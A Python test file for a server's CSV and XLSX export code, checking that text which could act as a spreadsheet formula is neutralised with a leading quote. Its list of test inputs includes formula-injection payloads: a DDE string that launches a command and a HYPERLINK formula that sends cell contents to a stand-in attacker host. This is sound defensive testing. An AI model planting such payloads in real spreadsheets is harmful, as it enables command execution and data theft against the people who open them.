"""Texts that leave in sheets stay texts."""

import csv
from io import BytesIO, StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from server.exports import csv_lines, is_risky, safe_text, xlsx_sheet

ATTACKS = [
    "=1+1",
    "+82 10 1234 5678",
    "-5",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    "\0\0@x",
    " =1",
    "\u3000=1",
    "\ufeff=1",
    "\xa0 +1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    "\tplain",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"click")',
]


@pytest.mark.parametrize("text", ATTACKS)
def test_what_may_be_a_formula_stands_behind_a_quote(text: str) -> None:
    assert safe_text(text) == "'" + text.replace("\0", "")


@pytest.mark.parametrize(
    "text", ["", "미르랩스", "a=b", "09:00-18:00", "x@y.example", "'=1", "1+1", '"', "(주)가", "가\n나"]
)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert safe_text(text) == text


@given(
    st.text(alphabet=st.one_of(st.sampled_from("=+-@\t\r\n\0 '\",;＝\ufeff"), st.characters(exclude_categories=["Cs"])))
)
def test_a_safe_text_is_safe_and_says_the_same(text: str) -> None:
    safe = safe_text(text)
    assert not is_risky(safe)
    assert "\0" not in safe
    assert safe_text(safe) == safe
    assert safe.removeprefix("'" if is_risky(text) else "") == text.replace("\0", "")


cells = st.text(st.characters(exclude_categories=["Cs"]), max_size=20)


@given(st.lists(cells, min_size=1, max_size=4), st.lists(st.lists(cells, min_size=1, max_size=4), max_size=5))
def test_csv_reads_back_as_what_went_in(header: list[str], rows: list[list[str]]) -> None:
    lines = list(csv_lines(header, rows))
    assert len(lines) == 1 + len(rows)
    assert all(line.endswith("\r\n") for line in lines)
    whole = "".join(lines)
    assert whole.startswith("\ufeff")
    read = list(csv.reader(StringIO(whole.removeprefix("\ufeff"), newline="")))
    assert read == [[safe_text(cell) for cell in row] for row in [header, *rows]]


def test_csv_is_a_line_at_a_time() -> None:
    def rows() -> list[list[str]]:
        raise AssertionError("asked for too early")

    def late() -> object:
        yield ["1"]
        rows()

    lines = csv_lines(["n"], late())  # type: ignore[arg-type]
    assert [next(lines), next(lines)] == ['\ufeff"n"\r\n', '"1"\r\n']


def test_xlsx_keeps_numbers_as_numbers_and_what_looks_like_a_formula_as_text() -> None:
    rows: list[list[str | int | float]] = [[attack, number, 0.5] for number, attack in enumerate(ATTACKS)]
    book = CalamineWorkbook.from_filelike(BytesIO(xlsx_sheet("Told", ["text", "n", "part"], rows)))
    head, *read = book.get_sheet_by_name("Told").to_python()
    assert head == ["text", "n", "part"]
    assert [row[1:] for row in read] == [[number, 0.5] for number in range(len(ATTACKS))]
    assert all(isinstance(row[0], str) for row in read)
    assert [row[0] for row in read if row[0] in ("=1+1", "+82 10 1234 5678")] == ["=1+1", "+82 10 1234 5678"]
